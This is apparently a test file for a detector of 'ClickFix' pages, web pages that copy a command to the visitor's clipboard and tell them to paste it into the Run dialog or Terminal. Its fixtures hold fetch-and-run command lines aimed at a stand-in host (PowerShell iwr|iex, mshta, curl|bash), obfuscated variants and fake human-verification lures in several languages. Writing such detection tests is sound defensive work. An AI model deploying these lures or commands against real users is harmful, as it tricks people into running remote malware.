import { describe, expect, test } from 'bun:test'
import { clickfixCheck } from '../../../src/trust/checks/clickfix.ts'
import { findings, rules } from './page-subject.ts'

const COMMAND = 'powershell -w hidden -c iwr https://x.example/a.txt | iex'
const COPIES = `<script>function go(){navigator.clipboard.writeText("${COMMAND}")}</script>`
const TOLD =
  '<h1>Verify you are human</h1><button onclick=go()>I am not a robot</button><p>Press <b>Windows</b> + <b>R</b><p>Press Ctrl + V<p>Press Enter'
const found = (body: string) => rules(clickfixCheck, body).length === 1

describe('a page that has its visitor run a command', () => {
  test.each([
    ['that a script copies', COPIES + TOLD],
    [
      'that an older script copies',
      `<textarea id=t>${COMMAND}</textarea><script>t.select();document.execCommand("copy")</script>${TOLD}`,
    ],
    ['that an attribute holds', `<button data-clipboard-text="${COMMAND}">Verify</button>${TOLD}`],
    [
      'that is written in pieces',
      `<script>navigator.clipboard.writeText("powe"+"rshell -w hi"+"dden -c x")</script>${TOLD}`,
    ],
    [
      'that is written in base64',
      `<script>navigator.clipboard.writeText(atob("${btoa(COMMAND)}"))</script>${TOLD}`,
    ],
    [
      'that is written in escapes',
      `<script>navigator.clipboard.writeText("${[...COMMAND].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}")</script>${TOLD}`,
    ],
    [
      'with carets in it',
      `<script>navigator.clipboard.writeText("cmd /c p^o^w^ershell -c x")</script>${TOLD}`,
    ],
    ['mshta', `<script>navigator.clipboard.writeText("mshta https://x.example/a")</script>${TOLD}`],
    [
      'on a Mac',
      `<script>navigator.clipboard.writeText("curl -s https://x.example/i.sh | bash")</script><h1>I'm not a robot</h1><p>Press ⌘ + Space, type Terminal<p>Press ⌘ + V and Return`,
    ],
    [
      'in the address bar of a window of files',
      `<script>navigator.clipboard.writeText("powershell -c ping x # C:\\\\file.docx")</script><p>To open the file: copy the path, open File Explorer, select the address bar (Ctrl + L) and paste it (Ctrl + V)`,
    ],
    [
      'to repair something',
      `${COPIES}<h1>Something went wrong</h1><p>How to fix: open the Run dialog, paste and press Enter`,
    ],
    [
      'in German',
      `${COPIES}<p>Bestätigen Sie, dass Sie ein Mensch sind: Windows-Taste + R drücken, mit Strg + V einfügen`,
    ],
    [
      'in Japanese',
      `${COPIES}<p>私はロボットではありません。Windows キー + R を押し、Ctrl + V で貼り付け、Enter`,
    ],
    [
      'in French',
      `${COPIES}<p>Vérifiez que vous êtes humain : touche Windows + R, puis collez avec Ctrl + V`,
    ],
    ['in Spanish', `${COPIES}<p>Verifique que es humano: tecla Windows + R, pegue con Ctrl + V`],
    [
      'that comes from elsewhere',
      `<script>fetch("/c").then(c=>navigator.clipboard.writeText(c))</script>${TOLD}`,
    ],
    [
      'with the instructions in a script',
      `<script>navigator.clipboard.writeText("${COMMAND}");document.body.innerHTML='<div><h1>Verify you are human</h1><p>Press Win + R, then Ctrl + V</div>'</script><p>Loading`,
    ],
  ])('%s', (_, body) => {
    expect(found(body)).toBe(true)
  })

  test('shows the command and the instruction', () => {
    expect(findings(clickfixCheck, COPIES + TOLD)[0]?.evidence).toMatchObject({
      at: 'script[0]',
      offset: 0,
      seen: expect.stringContaining('powershell -w hidden'),
      expected: expect.stringContaining('Windows + R'),
    })
  })
})

describe('a page that does not', () => {
  const LONG = 'The trick is described at length here. '.repeat(120)

  test.each([
    [
      'documentation whose button copies the command that it shows',
      '<h1>Install</h1><p>Open a terminal and paste:</p><pre>curl -sSf https://x.example/i | sh</pre><button data-clipboard-text="curl -sSf https://x.example/i | sh">Copy</button>',
    ],
    [
      'documentation whose script copies what is shown',
      '<h1>Install</h1><p>Open PowerShell and paste:</p><pre>irm https://x.example/i.ps1 | iex</pre><script>navigator.clipboard.writeText(pre.innerText)</script>',
    ],
    [
      'a page of many commands',
      `<p>Open a terminal. Paste with Ctrl+V.</p><pre>powershell -File a.ps1</pre><button data-clipboard-text="powershell -File a.ps1">Copy</button><p>${LONG}`,
    ],
    [
      'an article that quotes all of it',
      `<h1>ClickFix explained</h1><p>"Verify you are human", "press Windows + R", "press Ctrl + V": ${LONG}<pre>${COMMAND}</pre><button data-clipboard-text="${COMMAND}">Copy sample</button>`,
    ],
    [
      'an article with a button to copy its address',
      `<p>Verify you are human. Press Win+R and Ctrl+V. ${COMMAND} ${LONG}</p><script>navigator.clipboard.writeText(location.href)</script>`,
    ],
    ['a support page for the window of commands', '<p>Press Windows + R, type msinfo32 and press Enter.</p>'],
    [
      'a captcha',
      '<h1>Verify you are human</h1><input type=checkbox> I am not a robot<script>navigator.clipboard.writeText("x")</script>',
    ],
    ['a share button', '<button onclick="navigator.clipboard.writeText(location.href)">Copy link</button>'],
    [
      'an editor that knows the names of languages',
      '<p>Paste your code (Ctrl+V)</p><script>var l=["bash","powershell","cmd","curl"];navigator.clipboard.writeText(x)</script>',
    ],
  ])('%s', (_, body) => {
    expect(found(body)).toBe(false)
  })
})
